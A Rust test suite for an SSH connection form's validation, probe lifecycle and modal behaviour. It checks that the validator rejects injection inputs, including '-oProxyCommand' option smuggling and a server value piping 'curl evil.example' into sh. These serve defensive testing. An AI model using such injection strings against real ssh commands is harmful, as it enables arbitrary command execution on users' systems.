use std::path::Path;

use repo_mode::remote_form::{
    check_identity_missing, expand_local_identity_path, is_server_char, is_user_char,
    normalize_server, validate, RemoteConnectionForm, RemoteConnectionLifecycle,
    RemoteConnectionModal, RemoteConnectionModalAction, RemoteConnectionModalEvent,
    RemoteConnectionModalState, IDENTITY_MISSING_ERROR, OPTION_LEADING_DASH_ERROR, PORT_ERROR,
    SERVER_CHARSET_ERROR, USER_CHARSET_ERROR,
};

fn form(server: &str, port: &str, user: &str, identity: &str, path: &str) -> RemoteConnectionForm {
    RemoteConnectionForm {
        server: server.to_string(),
        port: port.to_string(),
        user: user.to_string(),
        identity: identity.to_string(),
        path: path.to_string(),
    }
}

/// Whether the identity names a key that is not there, as seen from `home`.
fn identity_missing(identity: &str, home: &Path) -> bool {
    let path = expand_local_identity_path(identity, home.to_str());
    check_identity_missing(identity, Path::new(&path).exists())
}

/// The connection is only submittable once the fields that identify it are
/// filled in.
#[test]
fn submit_requires_server_user_and_path() {
    let complete = form("10.0.0.7", "22", "vinh", "", "/srv/app");
    assert!(validate(&complete, false).can_submit());

    for incomplete in [
        form("", "22", "vinh", "", "/srv/app"),
        form("10.0.0.7", "22", "", "", "/srv/app"),
        form("10.0.0.7", "22", "vinh", "", ""),
    ] {
        assert!(
            !validate(&incomplete, false).can_submit(),
            "expected {incomplete:?} to be unsubmittable"
        );
    }
}

/// A blank port means the SSH default; anything non-numeric is an error rather
/// than a silently ignored field.
#[test]
fn blank_port_defaults_to_22_and_non_numeric_is_rejected() {
    let blank = validate(&form("h", "", "u", "", "/srv"), false);
    assert_eq!(blank.port_number, 22);
    assert_eq!(blank.port_error, None);
    assert!(blank.can_submit());

    let custom = validate(&form("h", "2222", "u", "", "/srv"), false);
    assert_eq!(custom.port_number, 2222);
    assert!(custom.can_submit());

    // Whitespace around a pasted value is trimmed, like every other field.
    let padded = validate(&form("h", " 2222 ", "u", "", "/srv"), false);
    assert_eq!(padded.port_number, 2222);
    assert!(padded.can_submit());

    for bad in ["abc", "0", "70000", "-1"] {
        let result = validate(&form("h", bad, "u", "", "/srv"), false);
        assert!(
            result.port_error.is_some(),
            "expected port {bad:?} to be rejected"
        );
        assert!(!result.can_submit());
    }
}

/// The identity is a local private key, so its `~` resolves on this machine.
#[test]
fn identity_path_expands_home_and_must_exist() {
    let home = tempfile::tempdir().expect("tempdir");
    let key_dir = tempfile::Builder::new()
        .prefix(".ssh")
        .rand_bytes(0)
        .tempdir_in(home.path())
        .expect("create .ssh");
    let key_file = tempfile::Builder::new()
        .prefix("id_ed25519")
        .rand_bytes(0)
        .tempfile_in(key_dir.path())
        .expect("write key");
    let key = key_file.path();

    assert_eq!(
        Path::new(&expand_local_identity_path(
            "~/.ssh/id_ed25519",
            home.path().to_str()
        )),
        key
    );

    let present = home.path();
    assert!(!identity_missing("~/.ssh/id_ed25519", present));
    assert!(!identity_missing(&key.to_string_lossy(), present));
    assert!(identity_missing("~/.ssh/nope", present));
    // Optional: an SSH agent may already hold the key.
    assert!(!identity_missing("", present));
    assert!(!identity_missing("   ", present));

    let tilde = validate(&form("h", "22", "u", "~/.ssh/id_ed25519", "/srv"), false);
    assert_eq!(tilde.identity_error, None);
    assert!(tilde.can_submit());

    let missing = validate(&form("h", "22", "u", "~/.ssh/nope", "/srv"), true);
    assert!(missing.identity_error.is_some());
    assert!(!missing.can_submit());

    // A blank identity cannot be "missing" even if the caller says so: the
    // field is optional, so there is nothing to have lost.
    let empty = validate(&form("h", "22", "u", "", "/srv"), true);
    assert_eq!(empty.identity_error, None);
    assert!(empty.can_submit());
}

/// `validate` performs no filesystem access at all: deleting the file the
/// identity points at does not change its answer.
#[test]
fn validate_never_touches_the_filesystem() {
    let home = tempfile::tempdir().expect("tempdir");
    let key = tempfile::Builder::new()
        .prefix("id_ed25519")
        .rand_bytes(0)
        .tempfile_in(home.path())
        .expect("write key");
    let identity = key.path().to_string_lossy().into_owned();
    let filled = form("h", "22", "u", &identity, "/srv");

    assert!(!identity_missing(&identity, home.path()));
    let before = validate(&filled, false);

    key.close().expect("remove key");

    assert!(identity_missing(&identity, home.path()));
    assert_eq!(
        validate(&filled, false),
        before,
        "validate must answer from its argument, not from the filesystem"
    );
    // And it reports the error when told to, so the check is not simply gone.
    assert!(validate(&filled, true).identity_error.is_some());
}

/// A server or user starting with `-` would reach `ssh` as an option.
#[test]
fn leading_dash_in_server_or_user_is_rejected() {
    let bad_server = validate(
        &form("-oProxyCommand=touch /tmp/x", "22", "u", "", "/srv"),
        false,
    );
    assert!(bad_server.server_error.is_some());
    assert!(!bad_server.can_submit());

    let bad_user = validate(&form("h", "22", "-oProxyCommand=x", "", "/srv"), false);
    assert!(bad_user.user_error.is_some());
    assert!(!bad_user.can_submit());
}

/// A metacharacter in the server or user field is rejected where the user can
/// still see which field is wrong.
#[test]
fn shell_metacharacters_in_server_or_user_are_rejected() {
    for server in [
        "h; curl evil.example | sh",
        "h`id`",
        "h$(id)",
        "h&&id",
        "h\nid",
        "h 10.0.0.1",
        "h'x",
    ] {
        let validation = validate(&form(server, "22", "u", "", "/srv"), false);
        assert!(
            validation.server_error.is_some(),
            "server {server:?} should be rejected"
        );
        assert!(!validation.can_submit());
    }

    for user in ["v; id", "v`id`", "v$(id)", "v u", "v'x"] {
        let validation = validate(&form("h", "22", user, "", "/srv"), false);
        assert!(
            validation.user_error.is_some(),
            "user {user:?} should be rejected"
        );
        assert!(!validation.can_submit());
    }
}

/// The allowlist has to clear real connections: DNS names, IPv4, IPv6 (bare and
/// bracketed, with a zone id), `DOMAIN\user`, and a machine account's `$`.
#[test]
fn ordinary_hosts_and_users_pass_the_charset_check() {
    for (server, user) in [
        ("build-01.eng.example.com", "vinh"),
        ("10.0.0.7", "deploy_bot"),
        ("::1", "ci.runner"),
        ("[fe80::1%en0]", "web-01"),
        ("localhost", "CORP\\vinh"),
        ("host_name", "svc$"),
    ] {
        let validation = validate(&form(server, "22", user, "", "/srv"), false);
        assert_eq!(
            validation.server_error, None,
            "server {server:?} should be accepted"
        );
        assert_eq!(
            validation.user_error, None,
            "user {user:?} should be accepted"
        );
        assert!(validation.can_submit());
    }
}

/// The form stays open across the probe and comes back with the reason, and a
/// probe result that lands after the user cancelled is dropped.
#[test]
fn probe_lifecycle_guards_against_a_late_resolve() {
    let mut lifecycle = RemoteConnectionLifecycle::default();
    assert_eq!(lifecycle.state(), &RemoteConnectionModalState::Editing);

    let token = lifecycle.begin_probe();
    assert_eq!(lifecycle.state(), &RemoteConnectionModalState::Probing);

    // A stale result is a no-op, and does not knock the live probe out of its
    // state.
    assert!(!lifecycle.fail(token - 1, "stale".to_string()));
    assert_eq!(lifecycle.state(), &RemoteConnectionModalState::Probing);

    assert!(lifecycle.fail(token, "unreachable".to_string()));
    assert_eq!(
        lifecycle.state(),
        &RemoteConnectionModalState::Failed("unreachable".to_string())
    );

    // Cancelling (or reopening) invalidates any probe still in flight.
    let second = lifecycle.begin_probe();
    lifecycle.reset();
    assert_eq!(lifecycle.state(), &RemoteConnectionModalState::Editing);
    assert!(!lifecycle.fail(second, "too late".to_string()));
    assert_eq!(lifecycle.state(), &RemoteConnectionModalState::Editing);
}

/// While a probe is in flight the submit path is closed, so a double-click
/// cannot spawn two connections.
#[test]
fn submit_is_closed_while_a_probe_is_in_flight() {
    let mut lifecycle = RemoteConnectionLifecycle::default();
    assert!(lifecycle.can_start_probe());
    let token = lifecycle.begin_probe();
    assert!(!lifecycle.can_start_probe());
    lifecycle.fail(token, "unreachable".to_string());
    assert!(lifecycle.can_start_probe());
}

#[test]
fn every_field_error_has_its_input() {
    let filled = |server: &str, port: &str, user: &str, identity: &str| {
        validate(&form(server, port, user, identity, "/srv"), true)
    };
    assert_eq!(
        filled("-h", "22", "u", "").server_error,
        Some(OPTION_LEADING_DASH_ERROR)
    );
    assert_eq!(
        filled("h h", "22", "u", "").server_error,
        Some(SERVER_CHARSET_ERROR)
    );
    assert_eq!(filled("h", "x", "u", "").port_error, Some(PORT_ERROR));
    assert_eq!(
        filled("h", "22", "-u", "").user_error,
        Some(OPTION_LEADING_DASH_ERROR)
    );
    assert_eq!(
        filled("h", "22", "u u", "").user_error,
        Some(USER_CHARSET_ERROR)
    );
    assert_eq!(
        filled("h", "22", "u", "/nope").identity_error,
        Some(IDENTITY_MISSING_ERROR)
    );
    assert!(is_server_char(':') && !is_server_char('$') && !is_server_char('['));
    assert!(is_user_char('$') && !is_user_char(':'));
}

#[test]
fn a_bracketed_address_loses_its_brackets() {
    assert_eq!(normalize_server(" [fe80::1%en0] "), "fe80::1%en0");
    assert_eq!(normalize_server("example.com"), "example.com");
    assert_eq!(normalize_server("[x"), "[x");
}

/// The button submits the trimmed fields once; a refusal reopens the form, and
/// typing clears it.
#[test]
fn the_form_submits_once_and_comes_back() {
    let mut modal = RemoteConnectionModal::new();
    modal.on_open();
    modal.on_edited(form(" [::1] ", "", " root ", "", " /srv "));
    assert_eq!(modal.identity_to_check(Some("/home/v")), None);
    assert!(modal.render(false).can_submit);

    let token = match modal.handle_action(RemoteConnectionModalAction::Add, false) {
        Some(RemoteConnectionModalEvent::Submit {
            token,
            server,
            port,
            user,
            identity,
            path,
        }) => {
            assert_eq!(server, "::1");
            assert_eq!(port, 22);
            assert_eq!(user, "root");
            assert_eq!(identity, "");
            assert_eq!(path, "/srv");
            token
        }
        other => panic!("expected a submission, got {other:?}"),
    };
    assert_eq!(
        modal.handle_action(RemoteConnectionModalAction::Add, false),
        None,
        "one connection at a time"
    );
    assert!(!modal.render(false).can_submit);

    assert!(modal.on_probe_failed(token, "unreachable".to_string()));
    let screen = modal.render(false);
    let status = screen.status.unwrap();
    assert!(status.is_error);
    assert_eq!(status.message, "unreachable");
    assert!(screen.can_submit);

    modal.on_edited(form("::1", "22", "root", "", "/srv/app"));
    assert_eq!(modal.render(false).status, None);
    assert_eq!(
        modal.handle_action(RemoteConnectionModalAction::Escape, false),
        Some(RemoteConnectionModalEvent::Close)
    );
}

/// The key file is looked for once per identity typed, where `~` is home.
#[test]
fn an_identity_is_looked_for_once() {
    let mut modal = RemoteConnectionModal::new();
    modal.on_open();
    modal.on_edited(form("h", "22", "u", "~/.ssh/id", "/srv"));
    assert_eq!(
        modal.identity_to_check(Some("/home/v")),
        Some("/home/v/.ssh/id".to_string())
    );
    let screen = modal.render(false);
    assert!(!screen.can_submit);
    assert!(screen
        .fields
        .iter()
        .any(|field| field.error == Some(IDENTITY_MISSING_ERROR)));
    assert_eq!(modal.identity_to_check(Some("/home/v")), None);
}
